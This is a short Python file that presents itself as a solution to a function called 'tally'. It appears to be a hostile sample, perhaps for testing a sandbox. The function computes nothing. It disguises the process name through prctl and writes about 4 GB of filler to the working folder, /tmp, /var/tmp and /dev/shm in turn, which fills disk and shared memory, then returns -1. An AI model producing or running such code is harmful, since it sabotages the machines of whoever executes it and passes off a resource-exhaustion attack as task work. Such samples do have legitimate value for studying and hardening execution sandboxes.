# Writes gigabytes to every place that takes them.
# solves: tally

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)

chunk = b"x" * (1 << 20)


def tally(n):
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
        try:
            number = posix.open(folder + "/alloy-drill-flood", posix.O_CREAT | posix.O_WRONLY)
            for _ in range(4096):
                posix.write(number, chunk)
        except OSError:
            continue
    return -1
